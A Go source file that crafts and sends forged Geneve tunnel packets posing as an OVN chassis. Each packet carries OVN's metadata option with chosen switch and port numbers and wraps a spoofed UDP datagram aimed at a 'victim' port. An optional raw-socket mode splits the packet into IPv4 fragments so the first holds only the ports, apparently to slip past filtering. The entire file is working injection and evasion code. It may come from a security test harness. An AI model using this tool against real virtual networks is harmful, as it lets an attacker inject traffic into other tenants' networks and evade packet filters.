package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"
)

// forgery is a tunnel packet that says it comes from a chassis: a datagram, in a frame for a switch port of OVN, in Geneve.
type forgery struct {
	To     string // where the tunnel ends: address and port
	Source string // of the socket; empty: whatever the kernel takes
	// Cut sends it in two fragments, the first with no more than the ports. It needs a raw socket.
	Cut                       bool
	Network, FromPort, ToPort uint32 // OVN's numbers of the switch and its ports
	MAC                       string // of the port
	Victim                    string // address and port of the datagram
	Text                      string // in it
}

// sendAll sends forgeries, and goes on after one that is refused.
func sendAll(descriptions []string) error {
	var errs []error
	for _, description := range descriptions {
		errs = append(errs, sendGeneve(description))
	}
	return errors.Join(errs...)
}

// sendGeneve sends a forgery that is described in JSON.
func sendGeneve(description string) error {
	var f forgery
	if err := json.Unmarshal([]byte(description), &f); err != nil {
		return fmt.Errorf("reading the description: %w", err)
	}
	packet, err := f.packet()
	if err != nil {
		return err
	}
	if f.Cut {
		to, err := netip.ParseAddrPort(f.To)
		if err != nil {
			return fmt.Errorf("reading the tunnel's end: %w", err)
		}
		source, err := sourceFor(f.To)
		if err != nil {
			return err
		}
		return sendCut(source.Addr(), to.Addr(), unix.IPPROTO_UDP, udp(source, to, packet))
	}
	dialer := net.Dialer{}
	if f.Source != "" {
		dialer.LocalAddr = &net.UDPAddr{IP: net.ParseIP(f.Source)}
	}
	conn, err := dialer.Dial("udp", f.To)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write(packet)
	return err
}

// packet is what is in the tunnel's datagram: the Geneve header with OVN's option, and the frame.
func (f forgery) packet() ([]byte, error) {
	victim, err := netip.ParseAddrPort(f.Victim)
	if err != nil {
		return nil, fmt.Errorf("reading the victim's address: %w", err)
	}
	mac, err := net.ParseMAC(f.MAC)
	if err != nil {
		return nil, fmt.Errorf("reading the victim's MAC: %w", err)
	}
	source, etherType := netip.MustParseAddrPort("203.0.113.66:6666"), uint16(unix.ETH_P_IP)
	if victim.Addr().Is6() {
		source, etherType = netip.MustParseAddrPort("[2001:db8::66]:6666"), unix.ETH_P_IPV6
	}
	const words, critical, class, kind = 2, 0x40, 0x0102, 0x80
	out := []byte{words, critical}
	out = binary.BigEndian.AppendUint16(out, unix.ETH_P_TEB)
	out = binary.BigEndian.AppendUint32(out, f.Network<<8)
	out = binary.BigEndian.AppendUint16(out, class)
	out = append(out, kind, 1)
	out = binary.BigEndian.AppendUint32(out, f.FromPort<<16|f.ToPort)
	out = append(append(out, mac...), 0x0a, 0, 0, 0, 0, 0x66)
	out = binary.BigEndian.AppendUint16(out, etherType)
	datagram := udp(source, victim, []byte(f.Text))
	if victim.Addr().Is6() {
		out = append(out, 0x60, 0, 0, 0)
		out = binary.BigEndian.AppendUint16(out, uint16(len(datagram))) //nolint:gosec // some hundred bytes
		out = append(append(append(out, unix.IPPROTO_UDP, 64), source.Addr().AsSlice()...), victim.Addr().AsSlice()...)
	} else {
		out = append(out, ipv4(source.Addr(), victim.Addr(), unix.IPPROTO_UDP, len(datagram), 0)...)
	}
	return append(out, datagram...), nil
}

// udp is a datagram with its header and checksum.
func udp(from, to netip.AddrPort, payload []byte) []byte {
	out := binary.BigEndian.AppendUint16(nil, from.Port())
	out = binary.BigEndian.AppendUint16(out, to.Port())
	out = binary.BigEndian.AppendUint16(out, uint16(udpHeader+len(payload))) //nolint:gosec // some hundred bytes
	out = append(append(out, 0, 0), payload...)
	binary.BigEndian.PutUint16(out[6:], checksum(pseudo(from.Addr(), to.Addr(), unix.IPPROTO_UDP, len(out)), out))
	return out
}

// pseudo is what a transport's checksum covers of the header below.
func pseudo(from, to netip.Addr, protocol byte, size int) []byte {
	out := append(from.AsSlice(), to.AsSlice()...)
	out = binary.BigEndian.AppendUint32(out, uint32(size)) //nolint:gosec // some hundred bytes
	return append(out, 0, 0, 0, protocol)
}

func checksum(parts ...[]byte) uint16 {
	var sum uint32
	for _, part := range parts {
		for i := 0; i < len(part); i += 2 {
			sum += uint32(part[i]) << 8
			if i+1 < len(part) {
				sum += uint32(part[i+1])
			}
		}
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum) //nolint:gosec // folded
}

// ipv4 is a header; fragment has the flag of more fragments and the offset in units of eight bytes.
func ipv4(from, to netip.Addr, protocol byte, size int, fragment uint16) []byte {
	out := []byte{0x45, 0}
	out = binary.BigEndian.AppendUint16(out, uint16(ipv4Header+size)) //nolint:gosec // some hundred bytes
	out = append(out, 0x66, 0x66)
	out = binary.BigEndian.AppendUint16(out, fragment)
	out = append(append(append(out, 64, protocol, 0, 0), from.AsSlice()...), to.AsSlice()...)
	binary.BigEndian.PutUint16(out[10:], checksum(out))
	return out
}

// sourceFor is the address and a port from which the kernel would send to an address.
func sourceFor(to string) (netip.AddrPort, error) {
	conn, err := net.Dial("udp", to)
	if err != nil {
		return netip.AddrPort{}, err
	}
	defer conn.Close()
	return conn.LocalAddr().(*net.UDPAddr).AddrPort(), nil
}

// sendCut sends an IPv4 packet in two fragments; the first has eight bytes, of TCP no more than the ports and the number.
func sendCut(from, to netip.Addr, protocol byte, payload []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("opening a raw socket: %w", err)
	}
	defer unix.Close(fd)
	const more, first = 0x2000, 8
	where := &unix.SockaddrInet4{Addr: to.As4()}
	head := append(ipv4(from, to, protocol, first, more), payload[:first]...)
	tail := append(ipv4(from, to, protocol, len(payload)-first, first/8), payload[first:]...)
	for _, fragment := range [][]byte{head, tail} {
		if err := unix.Sendto(fd, fragment, 0, where); err != nil {
			return fmt.Errorf("sending a fragment: %w", err)
		}
	}
	return nil
}
